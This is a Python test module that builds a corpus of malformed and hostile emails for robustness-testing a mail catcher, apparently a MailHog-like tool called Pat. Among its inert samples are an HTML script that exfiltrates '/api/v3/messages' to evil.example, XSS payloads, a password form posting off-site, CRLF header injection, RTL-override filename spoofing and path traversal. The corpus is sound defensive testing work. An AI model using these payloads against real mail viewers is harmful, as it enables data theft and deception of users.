"""The hostile corpus: messages built to break a mail parser, an API or a browser.

Every message is made here, deterministically. The ordinary ones are written to
``tests/hostile/*.eml`` and committed (``python -m tests.hostile.corpus`` writes them and the
README again; a unit test checks the files are what this module makes); the three huge ones
(nesting 1,500 deep, 100,000 parts, 5 MB of headers) are made when a test asks for them.

Each builder says in its description what it attacks; ``README.md`` lists them all."""

from __future__ import annotations

import base64
import sys
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
CRLF = b"\r\n"
FROM = b"From: Hostile <hostile@example.test>"
TO = b"To: Dev <dev@example.test>"


@dataclass(frozen=True)
class Item:
    name: str
    description: str
    build: Callable[[], bytes]
    huge: bool = False


ITEMS: list[Item] = []


def item(description: str, *, huge: bool = False) -> Callable[[Callable[[], bytes]],
                                                              Callable[[], bytes]]:
    def register(build: Callable[[], bytes]) -> Callable[[], bytes]:
        ITEMS.append(Item(build.__name__, description, build, huge))
        return build
    return register


def message(*headers: bytes, body: bytes = b"", subject: bytes = b"hostile") -> bytes:
    """A message with the usual From and To, ``subject``, ``headers`` and ``body``, its header
    lines ending in CRLF."""
    lines = [FROM, TO, b"Subject: " + subject, *headers]
    return CRLF.join(lines) + CRLF + CRLF + body


def multipart(boundary: bytes, *parts: bytes) -> bytes:
    """The body of a multipart: each part (its headers, a blank line, its body) behind a
    ``--boundary`` line, and the closing marker."""
    out = b"".join(b"--" + boundary + CRLF + part + CRLF for part in parts)
    return out + b"--" + boundary + b"--" + CRLF


def part(*headers: bytes, body: bytes = b"") -> bytes:
    return CRLF.join(headers) + CRLF + CRLF + body


def nested_multiparts(depth: int, leaf: bytes = b"the innermost text") -> bytes:
    """``depth`` multiparts, each the only part of the one around it."""
    opening = b"".join(b'Content-Type: multipart/mixed; boundary="=_%d_="\r\n\r\n--=_%d_=\r\n'
                       % (level, level) for level in range(depth))
    closing = b"".join(b"--=_%d_=--\r\n" % level for level in reversed(range(depth)))
    return opening + b"Content-Type: text/plain\r\n\r\n" + leaf + CRLF + closing


# --- huge: made at test time ------------------------------------------------------------------

@item("1,500 multiparts nested in each other around one text part (the stdlib parser "
      "recurses once per level and fails near 1,000)", huge=True)
def nested_1500() -> bytes:
    return FROM + CRLF + TO + CRLF + b"Subject: nested 1500 deep\r\n" + nested_multiparts(1500)


@item("100,000 parts in one multipart/mixed, text, HTML and tiny attachments in turn",
      huge=True)
def parts_100000() -> bytes:
    kinds = (b"Content-Type: text/plain\r\n\r\nplain %d",
             b"Content-Type: text/html\r\n\r\n<p>html %d</p>",
             b'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; '
             b'filename="f%d.bin"\r\n\r\nx')
    parts = [kinds[n % 3].replace(b"%d", b"%d" % n) for n in range(100_000)]
    return message(b'Content-Type: multipart/mixed; boundary="b"',
                   subject=b"100,000 parts", body=multipart(b"b", *parts))


@item("5 MB of header fields: Received chains, encoded words, address lists, X- fields by "
      "the ten thousand", huge=True)
def headers_5mb() -> bytes:
    lines: list[bytes] = []
    size = 0
    number = 0
    while size < 5_000_000:
        kind = number % 5
        if kind == 0:
            line = (b"Received: from relay%d.example.test (relay%d.example.test [192.0.2.%d])"
                    b"\r\n\tby mx.example.test; Mon, 09 Sep 2024 10:00:00 +0000"
                    % (number, number, number % 250))
        elif kind == 1:
            line = b"X-Encoded-%d: =?utf-8?B?w6lsw6htZW50?= =?iso-8859-1?Q?caf=E9?= %d" % (
                number, number)
        elif kind == 2:
            line = b"Cc: \"Person %d\" <person%d@example.test>, other%d@example.test" % (
                number, number, number)
        else:
            line = b"X-Filler-%d: value %d of a header section that never ends" % (
                number, number)
        lines.append(line)
        size += len(line) + 2
        number += 1
    return message(*lines, subject=b"5 MB of headers", body=b"body after the headers\r\n")


# --- nesting ----------------------------------------------------------------------------------

@item("1,200 nested multiparts in 90 KB: the message that answered 500 on every MailHog list "
      "page it was on")
def nested_1200() -> bytes:
    return FROM + CRLF + TO + CRLF + b"Subject: nested 1200 deep\r\n" + nested_multiparts(1200)


@item("an attached message/rfc822 that attaches one in turn, 150 deep")
def nested_rfc822_150() -> bytes:
    inner = message(body=b"the innermost message\r\n", subject=b"level 150")
    for level in reversed(range(1, 150)):
        inner = message(b"Content-Type: message/rfc822", body=inner,
                        subject=b"level %d" % level)
    return message(b'Content-Type: multipart/mixed; boundary="r"', subject=b"level 0",
                   body=multipart(b"r", part(b"Content-Type: text/plain", body=b"see attached"),
                                  part(b"Content-Type: message/rfc822",
                                       b'Content-Disposition: attachment; filename="fw.eml"',
                                       body=inner)))


@item("multipart and message/rfc822 alternating, 600 levels")
def nested_alternating_600() -> bytes:
    inner = b"Content-Type: text/plain\r\n\r\nbottom\r\n"
    for level in reversed(range(600)):
        if level % 2:
            inner = b"Content-Type: message/rfc822\r\n\r\nSubject: level %d\r\n%s" % (
                level, inner)
        else:
            boundary = b"alt-%d" % level
            inner = (b'Content-Type: multipart/mixed; boundary="%s"\r\n\r\n--%s\r\n%s\r\n'
                     b"--%s--\r\n" % (boundary, boundary, inner, boundary))
    return FROM + CRLF + TO + CRLF + b"Subject: alternating\r\n" + inner


@item("800 nested multiparts none of which is ever closed")
def nested_never_closed() -> bytes:
    opening = b"".join(b'Content-Type: multipart/mixed; boundary="open%d"\r\n\r\n--open%d\r\n'
                       % (level, level) for level in range(800))
    return (FROM + CRLF + TO + CRLF + b"Subject: never closed\r\n" + opening
            + b"Content-Type: text/plain\r\n\r\nno closing marker anywhere\r\n")


@item("multipart/digest 300 deep, its parts without headers (message/rfc822 by default)")
def nested_digest() -> bytes:
    inner = b"Subject: digest leaf\r\n\r\nleaf\r\n"
    for level in reversed(range(300)):
        inner = (b'Content-Type: multipart/digest; boundary="d%d"\r\n\r\n--d%d\r\n\r\n%s\r\n'
                 b"--d%d--\r\n" % (level, level, inner, level))
    return FROM + CRLF + TO + CRLF + b"Subject: digest\r\n" + inner


# --- bytes that are not text ------------------------------------------------------------------

@item("NUL bytes in the Subject, From, an X- field and a filename")
def nul_in_headers() -> bytes:
    return (b"From: Nul\x00Name <nul@example.test>\r\n" + TO + CRLF
            + b"Subject: before\x00after\r\nX-Nul: \x00\x00\x00\r\n"
            + b'Content-Type: multipart/mixed; boundary="n"\r\n\r\n'
            + multipart(b"n", part(b"Content-Type: text/plain", body=b"text"),
                        part(b'Content-Disposition: attachment; filename="a\x00b.txt"',
                             body=b"file")))


@item("NUL bytes in a text body and an HTML body")
def nul_in_bodies() -> bytes:
    return message(b'Content-Type: multipart/alternative; boundary="z"', body=multipart(
        b"z", part(b"Content-Type: text/plain; charset=utf-8", body=b"plain\x00text\x00"),
        part(b"Content-Type: text/html; charset=utf-8", body=b"<p>html\x00</p>")))


@item("a NUL byte inside a header name")
def nul_in_header_name() -> bytes:
    return message(b"X-Bad\x00Name: value", b"X-After: still a header?", body=b"body\r\n")


@item("bytes that are not UTF-8 (lone continuation bytes, truncated and overlong sequences, "
      "surrogates encoded) in the Subject and X- fields")
def invalid_utf8_headers() -> bytes:
    return message(b"X-Lone: \x80\x81\xbf", b"X-Truncated: caf\xc3", b"X-Overlong: \xc0\xaf",
                   b"X-Surrogate: \xed\xa0\x80", b"X-Latin1: na\xefve r\xe9sum\xe9",
                   subject=b"\xff\xfe invalid \xc3\x28 subject", body=b"body\r\n")


@item("bytes that are not UTF-8 in display names, local parts and domains of every address")
def invalid_utf8_addresses() -> bytes:
    return (b"From: \xff\xfe Name <us\xe9r@ex\xe4mple.test>\r\n"
            b"To: \"Qu\xf6ted \xc3\" <to\x80@example.test>, b\xc3\x28d@\xfe.test\r\n"
            b"Cc: undisclosed-\xff-recipients:;\r\nReply-To: <\xe9\xe9\xe9>\r\n"
            b"Sender: \xc0\xc1@\xf5\xf6\r\nSubject: addresses\r\n\r\nbody\r\n")


@item("bytes that are not UTF-8 in filenames: raw 8-bit, RFC 2231 with invalid escapes, "
      "RFC 2047 with invalid payload")
def invalid_utf8_filenames() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="f"', body=multipart(
        b"f", part(b"Content-Type: text/plain", body=b"see attachments"),
        part(b'Content-Disposition: attachment; filename="r\xe9sum\xff.pdf"', body=b"1"),
        part(b"Content-Disposition: attachment; filename*=utf-8''%FF%FE%C3%28.bin", body=b"2"),
        part(b'Content-Type: application/octet-stream; name="=?utf-8?B?/w==?="', body=b"3"),
        part(b"Content-Disposition: attachment; filename=\xc0\xaf\xc0\xaf.exe", body=b"4")))


@item("bytes that are not UTF-8 in bodies labelled UTF-8, and UTF-16 and UTF-7 labels on "
      "odd bytes")
def invalid_utf8_bodies() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="u"', body=multipart(
        b"u", part(b"Content-Type: text/plain; charset=utf-8", body=b"\xff\xfe\xc3\x28 text"),
        part(b"Content-Type: text/html; charset=utf-8", body=b"<p>\xed\xa0\x80</p>"),
        part(b"Content-Type: text/plain; charset=utf-16", body=b"\x00a\x00"),
        part(b"Content-Type: text/plain; charset=utf-7", body=b"+AGEAYgBj-+ZZZ")))


@item("a boundary made of bytes that are not UTF-8, used in the body")
def invalid_utf8_boundary() -> bytes:
    boundary = b"\xff\xfe\xc3\x28"
    return message(b'Content-Type: multipart/mixed; boundary="' + boundary + b'"',
                   body=multipart(boundary, part(b"Content-Type: text/plain", body=b"one"),
                                  part(b"Content-Type: text/plain", body=b"two")))


@item("8-bit Latin-1 and windows-1252 bytes straight in the headers (no encoded words)")
def eight_bit_headers() -> bytes:
    return (b"From: Fran\xe7ois M\xfcller <francois@example.test>\r\n" + TO + CRLF
            + b"Subject: \x93Quoted\x94 \x80 price \xe0 la carte\r\n"
            + b"X-Note: na\xefve\r\n\r\nbody\r\n")


@item("control characters, DEL, U+2028 and bidi overrides in header values")
def control_characters() -> bytes:
    return message(b"X-Controls: \x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f",
                   "X-Unicode: line\u2028separator \u202eevil\u202c".encode(),
                   subject="\u202egnp.exe\u202c".encode(), body=b"body\x1b[2J\r\n")


# --- RFC 2231 and encoded words -----------------------------------------------------------------

@item("a filename in 10,000 RFC 2231 continuations")
def rfc2231_huge_continuations() -> bytes:
    pieces = b"".join(b";\r\n filename*%d*=%%41%%42" % n for n in range(10_000))
    return message(b'Content-Type: multipart/mixed; boundary="c"', body=multipart(
        b"c", part(b"Content-Type: text/plain", body=b"text"),
        part(b"Content-Disposition: attachment" + pieces, body=b"data")))


@item("RFC 2231 values with charsets that do not exist, empty charsets and languages only")
def rfc2231_bad_charsets() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="c"', body=multipart(
        b"c", part(b"Content-Type: text/plain; charset*=x-no-such'en'utf%2D8", body=b"text"),
        part(b"Content-Disposition: attachment; filename*=utf-99''%41%42.txt", body=b"1"),
        part(b"Content-Disposition: attachment; filename*=''%41.txt", body=b"2"),
        part(b"Content-Disposition: attachment; filename*='en'", body=b"3"),
        part(b"Content-Disposition: attachment; filename*=../../etc'en'passwd", body=b"4")))


@item("RFC 2231 continuations with missing, repeated, huge and non-numeric indexes")
def rfc2231_missing_indexes() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="c"', body=multipart(
        b"c",
        part(b'Content-Disposition: attachment; filename*0="a"; filename*2="c"; '
             b'filename*5="f"', body=b"gaps"),
        part(b'Content-Disposition: attachment; filename*0="a"; filename*0="b"', body=b"dup"),
        part(b'Content-Disposition: attachment; filename*99999999999999999999="x"',
             body=b"huge index"),
        part(b'Content-Disposition: attachment; filename*x="y"; filename*-1="z"',
             body=b"not numbers"),
        part(b"Content-Disposition: attachment; filename*0*=utf-8''%E2%82; "
             b"filename*1*=%AC.txt", body=b"split escape")))


@item("encoded words by the thousand, malformed ones, unknown charsets, broken base64 in "
      "them, encoded words inside addresses and parameters")
def encoded_words_abuse() -> bytes:
    many = b" ".join(b"=?utf-8?Q?w=C3=B6rd%d?=" % n for n in range(5000))
    return message(
        b"X-Many: " + many,
        b"X-Malformed: =?utf-8?Q?unterminated =?utf-8?X?bad-encoding?= =??= =?utf-8??=",
        b"X-Bad-Charset: =?x-no-such?B?SGVsbG8=?= =?utf-7?Q?+AGE-?=",
        b"X-Bad-Base64: =?utf-8?B?!!!not base64!!!?= =?utf-8?B?SGVsbG8?=",
        b"X-Nested: =?utf-8?Q?=3D=3Futf-8=3FB=3FSGk=3D=3F=3D?=",
        b"Reply-To: =?utf-8?B?QWxpY2U=?= <=?utf-8?Q?al=C3=AFce?=@example.test>",
        subject=b"=?utf-8?B?" + base64.b64encode("ünïcødé ".encode() * 200) + b"?=",
        body=b"body\r\n")


# --- transfer encodings ------------------------------------------------------------------------

@item("base64 that is not: wrong padding, characters outside the alphabet, truncated, in a "
      "text body and in attachments")
def broken_base64() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="b"', body=multipart(
        b"b",
        part(b"Content-Type: text/plain; charset=utf-8", b"Content-Transfer-Encoding: base64",
             body=b"SGVsbG8gd29ybGQ!!!==\r\n===\r\nQ"),
        part(b"Content-Type: application/pdf", b"Content-Transfer-Encoding: base64",
             b'Content-Disposition: attachment; filename="truncated.pdf"', body=b"JVBERi0xL"),
        part(b"Content-Type: image/png", b"Content-Transfer-Encoding: base64",
             b'Content-Disposition: inline; filename="x.png"', b"Content-ID: <img1>",
             body=b"\xff\xfe not base64 at all \x00")))


@item("quoted-printable that is not: =ZZ, a lone = at the end, soft breaks before nothing, "
      "lines of 10,000 characters")
def broken_quoted_printable() -> bytes:
    return message(b'Content-Type: multipart/alternative; boundary="q"', body=multipart(
        b"q",
        part(b"Content-Type: text/plain; charset=utf-8",
             b"Content-Transfer-Encoding: quoted-printable",
             body=b"=ZZ =G1 =\r\n=\r\n" + b"a" * 10_000 + b"=C3=\r\n=A9 end="),
        part(b"Content-Type: text/html; charset=utf-8",
             b"Content-Transfer-Encoding: quoted-printable",
             body=b"<p>=3Cscript=3Ealert(1)=3C/script=3E =\r\n=</p>=")))


@item("transfer encodings that do not exist or do not apply: x-bogus, base64 on a multipart, "
      "uuencode that is broken, binary with every byte value")
def odd_transfer_encodings() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="t"',
                   b"Content-Transfer-Encoding: base64", body=multipart(
        b"t",
        part(b"Content-Type: text/plain", b"Content-Transfer-Encoding: x-bogus", body=b"text"),
        part(b"Content-Type: application/octet-stream", b"Content-Transfer-Encoding: x-uuencode",
             b'Content-Disposition: attachment; filename="u.bin"',
             body=b"begin 644 u.bin\r\nM9FEN92!B=70@=\r\nbroken line\r\n"),
        part(b"Content-Type: application/octet-stream", b"Content-Transfer-Encoding: binary",
             b'Content-Disposition: attachment; filename="all-bytes.bin"',
             body=bytes(range(256)))))


# --- boundaries --------------------------------------------------------------------------------

@item("the boundary string inside part bodies, at the start of a line and mid-line")
def boundary_inside_body() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="sep"', body=multipart(
        b"sep", part(b"Content-Type: text/plain", body=b"mid-line --sep here\r\n--sepX too"),
        part(b"Content-Type: text/plain", body=b"--sep-- pretends to close\r\nafter")))


@item("a nested multipart using the same boundary as the one around it")
def boundary_same_as_parent() -> bytes:
    inner = part(b'Content-Type: multipart/alternative; boundary="same"',
                 body=multipart(b"same", part(b"Content-Type: text/plain", body=b"inner")))
    return message(b'Content-Type: multipart/mixed; boundary="same"', body=multipart(
        b"same", inner, part(b"Content-Type: text/plain", body=b"outer")))


@item("boundaries that are prefixes of each other (outer 'ab', inner 'abc')")
def boundary_prefix_of_another() -> bytes:
    inner = part(b'Content-Type: multipart/alternative; boundary="abc"',
                 body=multipart(b"abc", part(b"Content-Type: text/plain", body=b"inner")))
    return message(b'Content-Type: multipart/mixed; boundary="ab"', body=multipart(
        b"ab", inner, part(b"Content-Type: text/html", body=b"<p>outer</p>")))


@item("an empty boundary parameter, with -- lines in the body")
def boundary_empty() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary=""',
                   body=b"--\r\nContent-Type: text/plain\r\n\r\none\r\n--\r\n\r\ntwo\r\n----\r\n")


@item("a boundary of spaces only, and one of 10,000 characters")
def boundary_odd_sizes() -> bytes:
    long = b"L" * 10_000
    inner = part(b'Content-Type: multipart/alternative; boundary="' + long + b'"',
                 body=multipart(long, part(b"Content-Type: text/plain", body=b"long")))
    return message(b'Content-Type: multipart/mixed; boundary="   "', body=multipart(
        b"   ", inner, part(b"Content-Type: text/plain", body=b"spaces")))


@item("a multipart that declares a boundary never used, and one missing its boundary")
def boundary_missing_or_unused() -> bytes:
    inner = part(b"Content-Type: multipart/related", body=b"--x\r\n\r\nno boundary param\r\n")
    return message(b'Content-Type: multipart/mixed; boundary="used"', body=multipart(
        b"used", inner, part(b'Content-Type: multipart/alternative; boundary="unused"',
                             body=b"nothing marks it\r\n")))


@item("10,000 empty parts in a row")
def many_empty_parts() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="e"',
                   body=b"--e\r\n" * 10_000 + b"--e--\r\n")


# --- the shape of the message -------------------------------------------------------------------

@item("only a header section: no blank line, no body")
def only_headers() -> bytes:
    return CRLF.join([FROM, TO, b"Subject: only headers", b"X-Last: field"]) + CRLF


@item("only a body: no header section at all (cannot be read as an email: failed, with the "
      "reason)")
def only_body() -> bytes:
    return b"\r\nthis message is nothing but a body\r\n<p>and some html</p>\r\n"


@item("a multipart message with bare LF line endings, as PHP's mail() sends")
def bare_lf() -> bytes:
    return bare_endings_source().replace(CRLF, b"\n")


@item("the same message with bare CR line endings")
def bare_cr() -> bytes:
    return bare_endings_source().replace(CRLF, b"\r")


@item("the same message with CRLF, LF and CR mixed line by line")
def mixed_line_endings() -> bytes:
    lines = bare_endings_source().split(CRLF)
    endings = (CRLF, b"\n", b"\r")
    return b"".join(line + endings[n % 3] for n, line in enumerate(lines[:-1]))


def bare_endings_source() -> bytes:
    return message(b"MIME-Version: 1.0", b'Content-Type: multipart/alternative; boundary="le"',
                   subject=b"line endings", body=multipart(
        b"le", part(b"Content-Type: text/plain; charset=utf-8", body=b"plain\r\nsecond line"),
        part(b"Content-Type: text/html; charset=utf-8", body=b"<p>html</p>")))


@item("header lines of 100 KB: a Subject, an X- field, and a To of 4,000 addresses on one line")
def header_lines_100kb() -> bytes:
    addresses = b", ".join(b"user%d@example.test" % n for n in range(4_000))
    return (FROM + CRLF + b"To: " + addresses + CRLF + b"Subject: " + b"S" * 100_000 + CRLF
            + b"X-Long: " + b"x " * 50_000 + CRLF + CRLF + b"body\r\n")


@item("20,000 tiny header fields")
def thousands_of_tiny_headers() -> bytes:
    return message(*(b"X: %d" % n for n in range(20_000)), body=b"body\r\n")


@item("a header name of 10,000 characters, a line without a colon, and a first line that is "
      "a continuation")
def malformed_header_lines() -> bytes:
    return (b" continuation first\r\n" + FROM + CRLF + TO + CRLF + b"X" * 10_000 + b": value\r\n"
            + b"no colon on this line\r\nSubject: after the junk\r\n\r\nbody\r\n")


@item("an mbox 'From ' envelope line before the headers")
def mbox_from_line() -> bytes:
    return b"From sender@example.test Mon Sep  9 10:00:00 2024\r\n" + message(body=b"body\r\n")


@item("a single body line of 1 MB")
def single_line_1mb() -> bytes:
    return message(b"Content-Type: text/plain", body=b"word " * 200_000)


@item("Date and Message-ID abuse: year 99999, time zone -9999, 5,000-character Message-ID")
def date_and_message_id_abuse() -> bytes:
    return message(b"Date: Mon, 32 Foo 99999 25:61:61 -9999",
                   b"Message-ID: <" + b"m" * 5_000 + b"@example.test>",
                   b"Resent-Date: not a date", body=b"body\r\n")


# --- Content-Type ------------------------------------------------------------------------------

@item("a Content-Type with 1,000 parameters (the boundary last)")
def content_type_1000_params() -> bytes:
    params = b"".join(b'; p%d="v%d"' % (n, n) for n in range(1_000))
    return message(b"Content-Type: multipart/mixed" + params + b'; boundary="p"',
                   body=multipart(b"p", part(b"Content-Type: text/plain", body=b"text")))


@item("a multipart body with no Content-Type at all")
def content_type_missing() -> bytes:
    return message(body=multipart(b"nobody", part(b"Content-Type: text/plain", body=b"text")))


@item("two Content-Type fields that disagree (text/plain, then multipart/mixed)")
def content_type_duplicate() -> bytes:
    return message(b"Content-Type: text/plain", b'Content-Type: multipart/mixed; boundary="d"',
                   body=multipart(b"d", part(b"Content-Type: text/html", body=b"<p>html</p>")))


@item("Content-Types that contradict themselves: duplicate charsets, duplicate boundaries, "
      "multipart with a charset, text with a boundary")
def content_type_contradictory() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="one"; boundary="two"',
                   body=multipart(b"one", part(
                       b"Content-Type: text/plain; charset=utf-8; charset=latin1; boundary=x",
                       body=b"text")) + multipart(b"two", part(b"Content-Type: text/html",
                                                               body=b"<p>two</p>")))


@item("Content-Types that are garbage: ';;;//;==', 'multipart/', a type of 5,000 "
      "characters, nested comments 3,000 deep")
def content_type_garbage() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="g"', body=multipart(
        b"g", part(b"Content-Type: ;;;//;==", body=b"one"),
        part(b"Content-Type: multipart/", body=b"two"),
        part(b"Content-Type: " + b"t" * 5_000 + b"/plain", body=b"three"),
        part(b"Content-Type: text/plain " + b"(" * 3_000 + b")" * 3_000, body=b"four")))


@item("nested comments 5,000 deep in From, To and Content-Disposition (the stdlib header "
      "parser recurses on comments)")
def nested_comments() -> bytes:
    comment = b"(" * 5_000 + b")" * 5_000
    return (b"From: a@example.test " + comment + CRLF + b"To: " + comment + b" b@example.test"
            + CRLF + b"Subject: comments " + comment + CRLF
            + b'Content-Type: multipart/mixed; boundary="cc"\r\n\r\n'
            + multipart(b"cc", part(b"Content-Type: text/plain", body=b"text"),
                        part(b"Content-Disposition: attachment; filename=x.txt " + comment,
                             body=b"file")))


@item("addresses with unbalanced quotes and brackets, empty groups, routes")
def unbalanced_addresses() -> bytes:
    return (b'From: "unterminated <a@example.test\r\nTo: <<<<b@example.test>>>>, ,,, '
            b"group:;, @route,@route:c@example.test\r\nCc: ((()\r\nBcc: \"\\\r\n"
            b"Subject: addresses\r\n\r\nbody\r\n")


@item("message/rfc822 parts that are empty, truncated, or not a message at all")
def rfc822_broken() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="r"', body=multipart(
        b"r", part(b"Content-Type: message/rfc822", body=b""),
        part(b"Content-Type: message/rfc822", body=b"Subject: truncated"),
        part(b"Content-Type: message/rfc822", b"Content-Transfer-Encoding: base64",
             body=b"\x89PNG binary\x00\x01")))


@item("a delivery report whose message/delivery-status holds junk blocks")
def delivery_status_junk() -> bytes:
    return message(b'Content-Type: multipart/report; report-type=delivery-status; boundary="r"',
                   body=multipart(b"r", part(b"Content-Type: text/plain", body=b"bounced"),
                                  part(b"Content-Type: message/delivery-status",
                                       body=b"junk\r\n\r\n\r\n: no name\r\n \r\nX: y\r\n"
                                            + b"\r\n" * 500)))


@item("Content-IDs of 10,000 characters and with NULs, referenced from the HTML")
def content_id_abuse() -> bytes:
    long = b"c" * 10_000
    return message(b'Content-Type: multipart/related; boundary="cid"', body=multipart(
        b"cid", part(b"Content-Type: text/html",
                     body=b'<img src="cid:' + long + b'"><img src="cid:a\x00b">'),
        part(b"Content-Type: image/png", b"Content-ID: <" + long + b">",
             b"Content-Transfer-Encoding: base64", body=b"iVBORw0KGgo="),
        part(b"Content-Type: image/gif", b"Content-ID: <a\x00b>", body=b"GIF89a")))


# --- content that must stay inert ---------------------------------------------------------------

@item("HTML with script, event handlers, javascript: URLs, SVG with script, iframes, "
      "meta refresh, forms and a base href")
def html_active_content() -> bytes:
    html = (b"<html><head><base href=\"https://evil.example/\">"
            b"<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">"
            b"<script>fetch('/api/v3/messages').then(r=>r.text()).then(t=>"
            b"navigator.sendBeacon('https://evil.example/',t))</script></head>"
            b"<body onload=\"alert(1)\"><a href=\"javascript:alert(2)\">link</a>"
            b"<svg><script>alert(3)</script><foreignObject><iframe src=\"/\"></iframe>"
            b"</foreignObject></svg><iframe srcdoc=\"<script>alert(4)</script>\"></iframe>"
            b"<form action=\"https://evil.example/\"><input name=p type=password></form>"
            b"<img src=x onerror=alert(5)><object data=\"data:text/html,<script>alert(6)"
            b"</script>\"></object></body></html>")
    return message(b"Content-Type: text/html; charset=utf-8", body=html)


@item("attachments that are active documents: SVG with script, HTML with script, XHTML, "
      "a part whose own headers ask to be a page (MailHog copied them into the download)")
def active_attachments() -> bytes:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
    return message(b'Content-Type: multipart/mixed; boundary="a"', body=multipart(
        b"a", part(b"Content-Type: text/html", b"Content-Disposition: inline",
                   b"Set-Cookie: session=stolen", b"Location: https://evil.example/",
                   b"Access-Control-Allow-Origin: *", body=b"<script>alert(1)</script>"),
        part(b'Content-Type: image/svg+xml; name="logo.svg"', b"Content-ID: <logo>",
             b"Content-Disposition: inline", body=svg),
        part(b"Content-Type: application/xhtml+xml",
             b'Content-Disposition: attachment; filename="page.xhtml"',
             body=b'<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(2)</script></html>'),
        part(b"Content-Type: text/html\r\n; injected=1",
             b'Content-Disposition: inline; filename="\r\nX-Injected: yes"',
             body=b"<script>alert(3)</script>")))


@item("HTML nested 50,000 elements deep")
def html_nested_50000() -> bytes:
    return message(b"Content-Type: text/html; charset=utf-8",
                   body=b"<div>" * 50_000 + b"deep" + b"</div>" * 50_000)


@item("a filename that spoofs its extension with a right-to-left override, one with path "
      "traversal, one of 5,000 characters")
def filename_spoofing() -> bytes:
    return message(b'Content-Type: multipart/mixed; boundary="s"', body=multipart(
        b"s", part(b"Content-Type: text/plain", body=b"files"),
        part("Content-Disposition: attachment; filename=\"invoice\u202efdp.exe\"".encode(),
             body=b"MZ"),
        part(b'Content-Disposition: attachment; filename="../../../etc/passwd"', body=b"root"),
        part(b'Content-Disposition: attachment; filename="' + b"n" * 5_000 + b'.txt"',
             body=b"long")))


# --- the corpus --------------------------------------------------------------------------------

def committed() -> list[Item]:
    return [i for i in ITEMS if not i.huge]


def huge() -> list[Item]:
    return [i for i in ITEMS if i.huge]


def path_of(entry: Item) -> Path:
    return HERE / f"{entry.name}.eml"


def corpus() -> list[tuple[str, bytes]]:
    """Every message of the corpus, name and bytes: the committed files as they are on disk,
    then the huge ones, made now."""
    return ([(i.name, path_of(i).read_bytes()) for i in committed()]
            + [(i.name, i.build()) for i in huge()])


def readme() -> str:
    rows = "\n".join(f"| `{i.name}{'' if i.huge else '.eml'}` | {i.description}"
                     f"{' (made at test time by `corpus.py`, not committed)' if i.huge else ''} |"
                     for i in ITEMS)
    return f"""# The hostile corpus

Messages built to break a mail parser, an API or a browser. `corpus.py` makes every one of them,
deterministically: `python -m tests.hostile.corpus` writes the `.eml` files and this README; the
three huge ones are made when a test asks for them. Pat must accept each over SMTP, end its
pipeline `processed` (or `failed` with a reason, for bytes that are no email), and answer every
API about it (`tests/integration/test_hostile_corpus.py`); `bench/hostile_corpus.py` measures
the time and memory it takes.

| message | what it attacks |
|---|---|
{rows}
"""


def main() -> int:
    for entry in committed():
        path_of(entry).write_bytes(entry.build())
    (HERE / "README.md").write_text(readme())
    print(f"wrote {len(committed())} messages and README.md to {HERE}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
